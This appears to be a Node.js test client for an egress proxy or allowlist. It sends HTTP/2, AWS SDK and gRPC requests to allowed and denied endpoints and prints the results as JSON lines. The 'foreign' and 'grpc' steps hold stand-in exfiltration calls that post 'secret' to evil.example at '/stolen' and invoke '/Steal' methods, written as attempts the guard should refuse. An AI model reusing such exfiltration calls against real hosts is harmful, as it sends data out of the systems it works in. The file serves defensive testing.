// The guarded program over HTTP/2: does what its arguments name, prints one JSON line for each.
'use strict';
const fs = require('fs'), http2 = require('http2');
const ca = fs.readFileSync(process.env.TEST_CA);
const GOOD = 'https://reports.s3.eu-west-1.amazonaws.com';
const sign = (service) => ({
    authorization: `AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20261121/eu-west-1/${service}/aws4_request, SignedHeaders=host;x-amz-date, Signature=00`,
    'x-amz-date': '20261121T000000Z', 'x-amz-content-sha256': 'UNSIGNED-PAYLOAD',
});
const connect = (url) => new Promise((resolve, reject) => {
    const c = http2.connect(url, { ca });
    c.on('error', reject);
    c.on('connect', () => resolve(c));
});

function ask(c, headers, body) {
    return new Promise((resolve) => {
        const r = c.request(headers, { endStream: body === undefined });
        let text = '', status = 0;
        r.on('response', (h) => { status = h[':status']; });
        r.on('data', (d) => { text += d; });
        r.on('end', () => resolve([status, text]));
        r.on('error', (e) => resolve([e.code, text]));
        if (body !== undefined)
            r.end(body);
    });
}
const put = (c, path, body, more) => ask(c, { ':method': 'PUT', ':path': path, ...sign('s3'), ...more }, body);
const drop = (c, path) => ask(c, { ':method': 'DELETE', ':path': path, ...sign('s3') });
const item = (c, table, body) => ask(c, { ':method': 'POST', ':path': '/', 'x-amz-target': 'DynamoDB_20120810.PutItem',
                                           'content-type': 'application/x-amz-json-1.0', ...sign('dynamodb') },
                                      body || JSON.stringify({ TableName: table, Item: { id: { S: '1' } } }));
const brief = ([status, text]) => [status, text.includes('AccessDenied')];

const steps = {
    allowed: async () => {
        const c = await connect(GOOD), out = [];
        for (let i = 0; i < 5; i++)
            out.push((await put(c, '/k' + i, 'body', { 'x-mark': 'm' + i }))[0]);
        c.close();
        return out;
    },
    denied: async () => {
        const c = await connect(GOOD), out = [];
        for (const [f, path] of [[put, '/a'], [drop, '/denied'], [put, '/b'], [drop, '/denied2'], [put, '/c']])
            out.push(brief(await f(c, path, f === put ? 'x' : undefined)));
        c.close();
        return out;
    },
    denied_first: async () => {
        const c = await connect(GOOD), out = [brief(await drop(c, '/denied')), brief(await put(c, '/a', 'x'))];
        c.close();
        return out;
    },
    time: async () => {
        const c = await connect(GOOD), t = [];
        await put(c, '/warm', 'x');
        for (let i = 0; i < 20; i++) {
            const from = process.hrtime.bigint();
            await drop(c, '/denied');
            t.push(Number(process.hrtime.bigint() - from) / 1e6);
        }
        c.close();
        t.sort((a, b) => a - b);
        console.error(`refused: median ${t[10].toFixed(2)} ms`);
        return [t[10] < 5];
    },
    // 100 at a time, every third refused
    many: async () => {
        const c = await connect(GOOD);
        const r = await Promise.all(Array.from({ length: 100 }, (_, i) => i % 3 === 2 ? drop(c, '/denied' + i)
            : put(c, '/m' + i, 'x'.repeat(i * 50), { 'x-mark': 'v' + i })));
        const again = (await put(c, '/again', 'x'))[0];
        c.close();
        return [r.filter((x, i) => i % 3 !== 2 && x[0] === 200).length,
                r.filter((x, i) => i % 3 === 2 && x[0] === 403 && x[1].includes('AccessDenied')).length, again];
    },
    body: async () => {
        const c = await connect('https://dynamodb.eu-west-1.amazonaws.com');
        const late = (table, n) => JSON.stringify({ Item: { id: { S: 'y'.repeat(n) } }, TableName: table });
        const r = await Promise.all(['ORDERS', 'denied-PAYMENTS', 'ORDERS', 'denied-X', 'ORDERS'].map((t) => item(c, t)));
        const l = [await item(c, '', late('ORDERS', 40000)), await item(c, '', late('denied-late', 40000)), await item(c, 'ORDERS')];
        c.close();
        return [...r, ...l].map((x) => x[0]);
    },
    // a long upload and a long download go on beside refusals
    upload: async () => {
        const c = await connect(GOOD), block = Buffer.alloc(65536, 'z');
        const up = new Promise((resolve) => {
            const r = c.request({ ':method': 'PUT', ':path': '/large', ...sign('s3') });
            let left = 160;
            r.on('response', (h) => resolve(h[':status']));
            r.on('error', (e) => resolve(e.code));
            r.resume();
            (function more() {
                while (left > 0) {
                    left--;
                    if (!r.write(block)) { r.once('drain', more); return; }
                }
                r.end();
            })();
        });
        const out = [];
        for (let i = 0; i < 10; i++)
            out.push(brief(await drop(c, '/denied' + i))[0]);
        out.push(await up);
        c.close();
        return out;
    },
    download: async () => {
        const c = await connect(GOOD);
        const big = Array.from({ length: 4 }, (_, i) => put(c, '/big' + i, 'x'));
        const no = Promise.all(Array.from({ length: 20 }, (_, i) => drop(c, '/denied' + i)));
        const out = [(await Promise.all(big)).map((x) => [x[0], x[1].length]), (await no).filter((x) => x[0] === 403).length];
        c.close();
        return out;
    },
    // a body of its own that is refused by its head is taken and comes to nothing; the connection's window does not shrink by it
    swallowed: async () => {
        const c = await connect(GOOD), out = [];
        for (let i = 0; i < 6; i++)
            out.push((await ask(c, { ':method': 'POST', ':path': '/denied' + i, ...sign('s3') }, 'd'.repeat(60000)))[0]);
        out.push((await put(c, '/after', 'x'.repeat(100000)))[0]);
        c.close();
        return out;
    },
    trailers: async () => {
        const c = await connect(GOOD), out = [];
        for (const path of ['/denied', '/t']) {
            out.push(await new Promise((resolve) => {
                const r = c.request({ ':method': path === '/t' ? 'PUT' : 'POST', ':path': path, ...sign('s3') }, { waitForTrailers: true });
                r.on('wantTrailers', () => r.sendTrailers({ 'x-sum': '1' }));
                r.on('response', (h) => resolve(h[':status']));
                r.on('error', (e) => resolve(e.code));
                r.resume();
                r.end('x');
            }));
        }
        c.close();
        return out;
    },
    foreign: async () => {
        const c = await connect('https://evil.example');
        const r = await ask(c, { ':method': 'POST', ':path': '/stolen' }, 'secret');
        c.close();
        return [r[0]];
    },
    other_host: async () => {
        const c = await connect(GOOD);
        const r = brief(await ask(c, { ':method': 'PUT', ':path': '/denied', ':authority': 'denied-salaries.s3.eu-west-1.amazonaws.com',
                                       ...sign('s3') }, 'x'));
        c.close();
        return r;
    },
    sdk_kinesis: async () => {
        const { KinesisClient, PutRecordCommand } = require('@aws-sdk/client-kinesis');
        const c = new KinesisClient({ region: 'eu-west-1', credentials: { accessKeyId: 'AKIDEXAMPLE', secretAccessKey: 'x' } });
        const out = [];
        for (const StreamName of ['clicks', 'denied-clicks', 'clicks'])
            try {
                const r = await c.send(new PutRecordCommand({ StreamName, PartitionKey: '1', Data: Buffer.from('hello') }));
                out.push([r.$metadata.httpStatusCode, r.$metadata.attempts]);
            } catch (e) {
                out.push([e.name, e.$metadata.httpStatusCode, e.$metadata.attempts, /is not in the allowlist/.test(e.message)]);
            }
        c.destroy();
        return out;
    },
    grpc: async () => {
        const grpc = require('@grpc/grpc-js'), pass = (x) => x, out = [];
        const call = (c, path) => new Promise((resolve) => c.makeUnaryRequest(path, pass, pass, Buffer.from('abc'),
            (e) => resolve(e ? [e.code, e.details.includes('ALPS')] : [0])));
        const c = new grpc.Client('api.listed.example:443', grpc.credentials.createSsl(ca));
        const e = new grpc.Client('evil.example:443', grpc.credentials.createSsl(ca));
        out.push(await call(c, '/shop.Orders/Get'), await call(e, '/shop.Orders/Steal'), await call(c, '/shop.Orders/Get'));
        out.push(await call(e, '/shop.Orders/StealAgain'));
        c.close();
        e.close();
        return out;
    },
};

(async () => {
    for (const step of process.argv.slice(2)) {
        let result;
        try { result = await steps[step](); } catch (e) { result = `${e.name}: ${e.message}`; }
        console.log(JSON.stringify({ step, result }));
    }
    process.exit(0);
})();
